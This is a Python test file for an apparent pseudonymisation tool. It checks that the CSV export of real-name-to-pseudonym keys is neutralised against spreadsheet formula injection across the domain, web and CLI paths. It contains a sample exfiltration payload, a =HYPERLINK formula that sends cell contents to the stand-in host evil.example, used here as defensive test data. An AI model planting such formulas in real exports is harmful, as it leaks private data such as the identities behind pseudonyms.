"""The key list CSV (#22 item 9) is written through files/tabular.py like every other CSV: a real name
(or pseudonym) a spreadsheet would run as a formula gets a leading apostrophe — from the domain, the
web download and ``casecoder pseudonyms export-keys``. Both databases."""
from __future__ import annotations

import csv
import io

import pytest

from casecoder.coding import pseudonym_keys
from tests.conftest import login
from tests.factories import PASSWORD

EVIL = '=HYPERLINK("https://evil.example/?leak="&A2,"Mette")'


@pytest.fixture
def keyed(factory, session):  # type: ignore[no-untyped-def]
    owner = factory.user("owner")
    project = factory.project("proj", owner)
    factory.source(project, [factory.case(project)], text="Mette ringede. Det gav ro.\n")
    pseudonym_keys.add_key(session, owner, project, EVIL, "Mor F07", "name")
    pseudonym_keys.add_key(session, owner, project, "Lone", "-Far F08", "name")
    pseudonym_keys.add_key(session, owner, project, "Jobcenter Ærø", "+Kommune A", "place")
    session.commit()
    return owner, project


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


EXPECTED = [["real", "pseudonym", "kind"], ["'" + EVIL, "Mor F07", "name"], ["Jobcenter Ærø", "'+Kommune A", "place"],
            ["Lone", "'-Far F08", "name"]]


def test_the_key_list_csv_is_neutralised(session, keyed):
    owner, project = keyed
    assert sorted(_rows(pseudonym_keys.key_csv(session, owner, project))[1:]) == sorted(EXPECTED[1:])
    assert _rows(pseudonym_keys.key_csv(session, owner, project))[0] == EXPECTED[0]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in _rows(pseudonym_keys.key_csv(
        session, owner, project)) for cell in row)


def test_web_and_cli_download_it_neutralised(client, runner, session, keyed, tmp_path):
    login(client, "owner", PASSWORD)
    response = client.get("/p/proj/pseudonyms/keys.csv")
    assert response.status_code == 200
    web = _rows(response.data)
    assert web[0] == EXPECTED[0] and sorted(web[1:]) == sorted(EXPECTED[1:])
    result = runner.invoke(args=["pseudonyms", "export-keys", "proj", str(tmp_path / "keys.csv")])
    assert result.exit_code == 0, result.output
    assert _rows((tmp_path / "keys.csv").read_bytes()) == web
